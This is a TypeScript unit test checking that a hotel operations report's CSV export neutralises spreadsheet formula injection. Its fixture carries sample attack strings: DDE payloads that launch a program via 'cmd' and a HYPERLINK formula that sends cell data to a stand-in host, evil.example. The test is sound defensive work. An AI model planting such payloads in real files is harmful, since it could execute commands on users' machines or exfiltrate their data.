import { describe, expect, it } from "vitest";
import { csvCell } from "@/lib/booking/bookings-csv";
import { reportCsv } from "@/lib/reports/csv";
import type { Report } from "@/lib/reports/schemas";

const POLICY = "urn:svc:policy:0195f0c8-7a1e-7c2d-9a55-3b2f4a1c9d10";
const HOTEL = "urn:svc:hotel:0195f0c8-7a1e-7c2d-9a55-3b2f4a1c9d11";

/** A report whose names a hotel's or an admin's hand chose: each one a formula a spreadsheet would run. */
const report = {
  airports: [],
  topFailingPolicies: [{ policyUrn: POLICY, items: 3 }],
  topFailingProviders: [{ provider: "@SUM(1+1)*cmd|' /C calc'!A0", failedReservations: 2 }],
  walks: [{ hotelName: '=HYPERLINK("http://evil.example/?"&A1,"Hotel")', hotelUrn: HOTEL, walks: 1, rehoused: 1 }],
  worstHotels: [{ name: "+1+cmd|' /C calc'!A0", airport: "CDG", score: 2.5, ratings: 4, tags: [{ tag: "-2+3", count: 1 }], hotelUrn: HOTEL }],
} as unknown as Report;

describe("the operations report's CSV", () => {
  it("neutralises every cell a spreadsheet would run as a formula, as bookings.csv does", () => {
    const csv = reportCsv(report, { [POLICY]: { name: "=1+2", version: 1 } as never });
    const cells = csv.split("\r\n").flatMap((l) => l.match(/("([^"]|"")*"|[^,]*)/g) ?? []);
    for (const evil of ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Hotel")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]) {
      expect(csv).toContain(csvCell(evil));
      expect(csvCell(evil).replace(/^"/, "").startsWith("'")).toBe(true);
    }
    // no cell, quoted or not, begins with a formula character
    for (const c of cells) expect(c.replace(/^"/, "")).not.toMatch(/^[=+\-@]/);
  });
});
